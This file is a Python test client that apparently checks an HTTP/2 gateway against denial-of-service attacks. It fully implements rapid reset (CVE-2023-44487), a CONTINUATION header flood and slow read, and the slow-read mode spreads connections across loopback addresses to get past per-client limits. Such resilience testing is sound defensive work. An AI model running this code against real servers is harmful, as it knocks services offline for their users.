#!/usr/bin/env python3
"""HTTP/2 attack client for the gateway's tests: rapid reset (CVE-2023-44487), CONTINUATION
flood (CVE-2024-27316 family) and slow read, over TLS with ALPN h2.

Usage: h2_attack.py rapid-reset|continuation|slow-read HOST PORT CA_FILE [--streams N]
                   [--bytes N] [--repeat N] [--min-seconds S] [--connections N]
                   [--path P] [--seconds S]

It attacks only the address it is given (the tests pass a loopback gateway) and prints one JSON
line: what it sent before the server cut it off, and how the server did it.
  rapid-reset:  opens a stream and resets it at once (CANCEL), --streams times, as fast as the
                socket takes them.
  continuation: one HEADERS frame without END_HEADERS, then CONTINUATION frames of 1 KiB header
                fragments, never ending the header block, up to --bytes.
  slow-read:    --connections connections at once, each from its own loopback address
                (127.1.x.y, so that per-client limits do not stop it), each offering a
                flow-control window of 0 and asking --streams answers of --bytes bytes from
                --path (header x-answer-bytes), then keeping the connection alive with PINGs
                for --seconds without ever opening the window. Reports per connection the
                streams reset (by error code), the data received, and whether it was closed.
Each attack connection stops at the first sign the server closed it; --repeat runs the attack
on new connections, one after the other, until --min-seconds have passed (at most --repeat
connections), so that it lasts long enough for the tests to probe the server meanwhile. The output is {"mode", "runs": [one report per connection]}.
"""

import argparse
import json
import socket
import ssl
import sys
import time

import h2.config
import h2.connection
import h2.events
import h2.exceptions
import h2.settings
import hpack


def connect(host, port, ca_file):
    ctx = ssl.create_default_context(cafile=ca_file)
    ctx.set_alpn_protocols(["h2"])
    raw = socket.create_connection((host, port), timeout=10)
    tls = ctx.wrap_socket(raw, server_hostname="localhost")
    if tls.selected_alpn_protocol() != "h2":
        raise SystemExit("server did not select h2")
    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
    conn.initiate_connection()
    tls.sendall(conn.data_to_send())
    return tls, conn


class Outcome:
    def __init__(self):
        self.goaway = None
        self.closed = False
        self.error = None

    def read(self, tls, conn, wait):
        """Reads what the server sent within `wait` seconds; True when it ended the connection."""
        tls.settimeout(wait)
        try:
            data = tls.recv(65536)
        except (socket.timeout, ssl.SSLWantReadError):
            return False
        except (ConnectionError, ssl.SSLError, OSError) as e:
            self.closed, self.error = True, type(e).__name__
            return True
        if not data:
            self.closed = True
            return True
        try:
            events = conn.receive_data(data)
        except h2.exceptions.ProtocolError as e:
            self.error = type(e).__name__
            return True
        for ev in events:
            if isinstance(ev, h2.events.ConnectionTerminated):
                self.goaway = int(ev.error_code)
        pending = conn.data_to_send()
        if pending:
            try:
                tls.sendall(pending)
            except (ConnectionError, ssl.SSLError, OSError):
                self.closed = True
                return True
        return self.goaway is not None

    def drain(self, tls, conn):
        """After a failed write: reads what the server sent before closing (its GOAWAY)."""
        tls.settimeout(1)
        for _ in range(64):
            try:
                data = tls.recv(65536)
            except (socket.timeout, ssl.SSLWantReadError, ConnectionError, ssl.SSLError, OSError):
                return
            if not data:
                return
            try:
                events = conn.receive_data(data)
            except h2.exceptions.ProtocolError:
                return
            for ev in events:
                if isinstance(ev, h2.events.ConnectionTerminated):
                    self.goaway = int(ev.error_code)

    def wait_end(self, tls, conn, seconds):
        end = time.monotonic() + seconds
        while time.monotonic() < end and not self.closed:
            self.read(tls, conn, 0.2)
            if self.goaway is not None:
                # After GOAWAY the server closes; wait for it briefly.
                self.read(tls, conn, 0.5)
                break


def rapid_reset(args):
    tls, conn = connect(args.host, args.port, args.ca)
    out = Outcome()
    headers = [
        (":method", "POST"),
        (":scheme", "https"),
        (":authority", "localhost"),
        (":path", "/v1/chain/get_block"),
    ]
    sent = 0
    started = time.monotonic()
    try:
        for _ in range(args.streams):
            sid = conn.get_next_available_stream_id()
            conn.send_headers(sid, headers, end_stream=False)
            conn.reset_stream(sid, error_code=8)
            tls.sendall(conn.data_to_send())
            sent += 1
            if sent % 50 == 0 and out.read(tls, conn, 0.0005):
                break
    except (ConnectionError, ssl.SSLError, OSError) as e:
        out.closed, out.error = True, type(e).__name__
        out.drain(tls, conn)
    except h2.exceptions.ProtocolError as e:
        out.error = type(e).__name__
    out.wait_end(tls, conn, 5)
    return {
        "mode": "rapid-reset",
        "streams_sent": sent,
        "goaway": out.goaway,
        "closed": out.closed,
        "error": out.error,
        "seconds": round(time.monotonic() - started, 3),
    }


def slow_read_one(args, index, results):
    ctx = ssl.create_default_context(cafile=args.ca)
    ctx.set_alpn_protocols(["h2"])
    raw = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    raw.bind((f"127.1.{index // 250}.{index % 250 + 1}", 0))
    raw.settimeout(10)
    raw.connect((args.host, args.port))
    tls = ctx.wrap_socket(raw, server_hostname="localhost")
    config = h2.config.H2Configuration(client_side=True)
    conn = h2.connection.H2Connection(config)
    conn.local_settings = h2.settings.Settings(
        client=True, initial_values={h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 0}
    )
    conn.initiate_connection()
    for _ in range(args.streams):
        sid = conn.get_next_available_stream_id()
        conn.send_headers(
            sid,
            [
                (":method", "POST"),
                (":scheme", "https"),
                (":authority", "localhost"),
                (":path", args.path),
                ("x-answer-bytes", str(args.bytes)),
            ],
            end_stream=True,
        )
    tls.sendall(conn.data_to_send())
    report = {"resets": {}, "data": 0, "closed": False, "ended": 0}
    end = time.monotonic() + args.seconds
    last_ping = 0.0
    tls.settimeout(0.2)
    while time.monotonic() < end:
        if time.monotonic() - last_ping > 1:
            conn.ping(b"slowread")
            last_ping = time.monotonic()
        try:
            tls.sendall(conn.data_to_send())
            data = tls.recv(65536)
        except (socket.timeout, ssl.SSLWantReadError):
            continue
        except (ConnectionError, ssl.SSLError, OSError):
            report["closed"] = True
            break
        if not data:
            report["closed"] = True
            break
        for ev in conn.receive_data(data):
            if isinstance(ev, h2.events.StreamReset):
                code = str(int(ev.error_code))
                report["resets"][code] = report["resets"].get(code, 0) + 1
            elif isinstance(ev, h2.events.DataReceived):
                report["data"] += len(ev.data)
            elif isinstance(ev, h2.events.StreamEnded):
                report["ended"] += 1
    tls.close()
    results[index] = report


def slow_read(args):
    import threading

    results = [None] * args.connections
    threads = [
        threading.Thread(target=slow_read_one, args=(args, i, results))
        for i in range(args.connections)
    ]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    return {"mode": "slow-read", "connections": results}


def frame(kind, flags, stream, payload):
    n = len(payload)
    return bytes([n >> 16 & 0xFF, n >> 8 & 0xFF, n & 0xFF, kind, flags]) + stream.to_bytes(4, "big") + payload


def continuation(args):
    tls, conn = connect(args.host, args.port, args.ca)
    out = Outcome()
    enc = hpack.Encoder()
    first = enc.encode([
        (":method", "POST"),
        (":scheme", "https"),
        (":authority", "localhost"),
        (":path", "/v1/chain/get_block"),
    ])
    sid = conn.get_next_available_stream_id()
    sent = 0
    frames = 0
    started = time.monotonic()
    try:
        # HEADERS (type 1) without END_HEADERS (0x4): the header block stays open.
        tls.sendall(frame(0x1, 0x0, sid, first))
        while sent < args.bytes:
            # A literal header without indexing, new name: the server must decode it to know
            # the block's size, and keeps nothing of it if it is careful.
            fragment = enc.encode([("x-flood-%d" % frames, "a" * 1000)], huffman=False)
            tls.sendall(frame(0x9, 0x0, sid, fragment))
            sent += len(fragment) + 9
            frames += 1
            if frames % 16 == 0 and out.read(tls, conn, 0.0005):
                break
    except (ConnectionError, ssl.SSLError, OSError) as e:
        out.closed, out.error = True, type(e).__name__
        out.drain(tls, conn)
    except h2.exceptions.ProtocolError as e:
        out.error = type(e).__name__
    out.wait_end(tls, conn, 5)
    return {
        "mode": "continuation",
        "frames_sent": frames,
        "bytes_sent": sent,
        "goaway": out.goaway,
        "closed": out.closed,
        "error": out.error,
        "seconds": round(time.monotonic() - started, 3),
    }


def main():
    p = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    p.add_argument("mode", choices=["rapid-reset", "continuation", "slow-read"])
    p.add_argument("host")
    p.add_argument("port", type=int)
    p.add_argument("ca")
    p.add_argument("--streams", type=int, default=10000)
    p.add_argument("--bytes", type=int, default=16 * 1024 * 1024)
    p.add_argument("--repeat", type=int, default=1)
    p.add_argument("--min-seconds", type=float, default=0.0)
    p.add_argument("--connections", type=int, default=1)
    p.add_argument("--path", default="/v1/chain/get_block")
    p.add_argument("--seconds", type=float, default=10.0)
    args = p.parse_args()
    if args.mode == "slow-read":
        print(json.dumps(slow_read(args)))
        sys.stdout.flush()
        return
    attack = rapid_reset if args.mode == "rapid-reset" else continuation
    runs = []
    started = time.monotonic()
    while len(runs) < args.repeat and (
        len(runs) == 0 or time.monotonic() - started < args.min_seconds
    ):
        runs.append(attack(args))
    print(json.dumps({"mode": args.mode, "runs": runs}))
    sys.stdout.flush()


if __name__ == "__main__":
    main()
